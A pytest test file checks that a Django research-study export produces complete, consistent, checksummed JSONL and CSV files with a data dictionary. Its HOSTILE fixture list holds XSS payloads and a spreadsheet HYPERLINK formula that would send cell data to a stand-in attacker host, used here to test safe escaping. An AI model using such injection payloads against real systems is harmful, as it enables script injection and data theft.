"""An export holds one whole study, and says what everything in it means."""

import hashlib
import re
import subprocess

import pytest
from django.core.management import CommandError

from annotation import models as m
from personalization.releases import files, queries
from personalization.releases.csv_safety import unescape
from personalization.releases.tables import TABLES
from tests import factories
from tests.personalization.releases.conftest import Export, full_study

pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE = [
    "<script>alert('x')</script> & <img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "back\\slash \\n \\N \\. \"quoted\" 'single', comma;\ttab\r\ntwo lines\n",
    "🙂 שלום עולם مرحبا \u202eright to left\u202c \u2028 \x01\x02\x7f",
    "\\.",
]


def test_every_table_has_rows_and_the_columns_of_its_dictionary(export: Export) -> None:
    folder = export(full_study("whole").study)
    tables = folder.json("dictionary.json")["tables"]
    assert [table["name"] for table in tables] == [table.name for table in TABLES]
    for table in tables:
        names = [column["name"] for column in table["columns"]]
        lines, rows = folder.jsonl(table["name"]), folder.csv(table["name"])
        assert len(lines) == len(rows) > 0, table["name"]
        assert all(list(line) == names for line in lines)
        assert all(list(row) == [*names, "_escaped"] for row in rows)
        assert all(column["description"] and column["type"] for column in table["columns"])


def test_both_files_of_a_table_say_the_same(export: Export) -> None:
    folder = export(full_study("same").study)
    for table in TABLES:
        for line, row in zip(folder.jsonl(table.name), folder.csv(table.name), strict=True):
            for column in table.columns:
                value, cell = line[column.name], unescape(row)[column.name]
                if value is None or isinstance(value, str):
                    assert cell == (value or "")
                elif isinstance(value, bool):
                    assert cell == str(value).lower()
                elif isinstance(value, int | float):
                    assert float(cell) == value


def test_manifest_counts_and_checksums_are_those_of_the_files(export: Export) -> None:
    folder = export(full_study("sums").study)
    manifest = folder.json("manifest.json")
    for file in manifest["files"]:
        content = (folder.path / file["path"]).read_bytes()
        assert (len(content), hashlib.sha256(content).hexdigest()) == (
            file["bytes"],
            file["sha256"],
        )
        if file["path"].endswith(".jsonl"):
            assert file["rows"] == content.count(b"\n")
        elif file["path"].endswith(".csv"):
            assert file["rows"] == len(folder.csv(file["table"]))
    listed = dict(
        line.split("  ")[::-1] for line in (folder.path / "SHA256SUMS").read_text().splitlines()
    )
    assert set(listed) == {path.name for path in folder.path.iterdir()} - {"SHA256SUMS"}
    for name, digest in listed.items():
        assert hashlib.sha256((folder.path / name).read_bytes()).hexdigest() == digest
    subprocess.run(
        ["sha256sum", "-c", "--strict", "SHA256SUMS"],
        cwd=folder.path,
        check=True,
        capture_output=True,
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_text_passes_unchanged(export: Export, text: str) -> None:
    study = factories.study()
    m.Query.objects.create(study=study, key=text, text=text)
    folder = export(study, tables="queries")
    assert [(row["key"], row["text"]) for row in folder.jsonl("queries")] == [(text, text)]
    (row,) = folder.csv("queries")
    assert (unescape(row)["key"], unescape(row)["text"]) == (text, text)


def test_superseded_answers_are_kept_with_their_time(export: Export) -> None:
    full = full_study("edits")
    rows = export(full.study).jsonl("judgments")
    mine = [row for row in rows if row["role"] == "first_person"]
    assert [(row["value"], row["superseded_at"] is None) for row in mine] == [
        ("no", False),
        ("yes", True),
    ]
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", mine[0]["superseded_at"])
    assert [row["reason"] for row in rows if row["value"] is None] == ["cannot_tell"]
    assert {row["item_id"] for row in rows} == {full.item.pk}


def test_what_an_arm_was_given_stands_beside_its_response(export: Export) -> None:
    """Two arms: one holds the attribute, the other has written a response with it."""
    folder = export(full_study("arms").study)
    reader, writer = folder.jsonl("arms")
    assert (reader["step"], writer["step"]) == ("extraction", "generation")
    (held,), (written,) = folder.jsonl("arm_attributes"), folder.jsonl("arm_responses")
    (attribute,) = folder.jsonl("attributes")
    assert (held["arm_id"], held["attribute_id"], held["left_out"]) == (
        reader["id"], attribute["id"], None,
    )  # fmt: skip
    assert written["arm_id"] == writer["id"]
    assert (written["attributes"], written["words_asked"], written["leaks"]) == (
        [attribute["id"]], None, [],
    )  # fmt: skip
    (query,), (listed,) = folder.jsonl("queries"), folder.jsonl("query_lists")
    assert (query["list_id"], listed["licence"]) == (listed["id"], "CC0")


def test_the_dictionary_has_wording_and_ordered_options(export: Export) -> None:
    study = factories.study()
    question = factories.question(study=study, key="a|b", options=("no", "rather no", "yes"))
    m.Question.objects.filter(pk=question.pk).update(wording="Is | <b>this</b>\ntrue?")
    folder = export(study)
    (described,) = folder.json("dictionary.json")["questions"]
    assert described["wording"] == "Is | <b>this</b>\ntrue?"
    assert [o["key"] for o in described["options"]] == ["no", "rather no", "yes"]
    page = (folder.path / "dictionary.md").read_text()
    assert "Is \\| &lt;b&gt;this&lt;/b&gt;<br>true?" in page


def test_rows_of_another_study_are_absent(export: Export) -> None:
    full, other = full_study("mine"), full_study("theirs", owner_name="Someone Else")
    mine, theirs = export(full.study), export(other.study, "theirs")
    for table in TABLES:
        if "id" in (column.name for column in table.columns):
            a, b = ({row["id"] for row in f.jsonl(table.name)} for f in (mine, theirs))
            assert a
            assert a.isdisjoint(b), table.name
        assert len(mine.jsonl(table.name)) == len(theirs.jsonl(table.name))


def test_only_the_chosen_tables(export: Export) -> None:
    folder = export(full_study("some").study, tables="items, judgments")
    assert {path.stem for path in folder.path.glob("*.csv")} == {"items", "judgments"}
    assert len(folder.json("dictionary.json")["tables"]) == 2


def test_an_empty_study_has_empty_tables(export: Export) -> None:
    folder = export(factories.study())
    assert folder.jsonl("judgments") == folder.csv("judgments") == []
    assert (folder.path / "judgments.csv").read_text().startswith("id,item_id,")


def test_two_exports_are_equal_but_for_their_time(export: Export) -> None:
    study = full_study("twice").study
    one, two = export(study, "one"), export(study, "two")
    for file in one.json("manifest.json")["files"]:
        name = file["path"]
        assert (one.path / name).read_bytes() == (two.path / name).read_bytes()


@pytest.mark.parametrize("condition", ["t.value = 1", "false"])
def test_a_query_that_loses_rows_fails_loudly(
    export: Export, monkeypatch: pytest.MonkeyPatch, condition: str
) -> None:
    rows = queries.rows
    monkeypatch.setattr(
        queries,
        "rows",
        lambda table: (
            rows(table).replace("ORDER BY", f"AND {condition} ORDER BY")
            if table.name == "judgments"
            else rows(table)
        ),
    )
    with pytest.raises(
        CommandError, match=r"judgments\.jsonl: 4 of the study's 4 rows belong in it"
    ):
        export(full_study("lossy").study)


def test_a_file_that_changes_on_disk_fails_loudly(
    export: Export, monkeypatch: pytest.MonkeyPatch
) -> None:
    write = files.write

    def truncate(path, pieces, wrote=lambda _: 0):  # type: ignore[no-untyped-def] # noqa: ANN001, ANN202
        facts = write(path, pieces, wrote)
        path.write_bytes(path.read_bytes()[:-1])
        return facts

    monkeypatch.setattr(files, "write", truncate)
    with pytest.raises(CommandError, match="bytes on disk differ"):
        export(full_study("short").study)
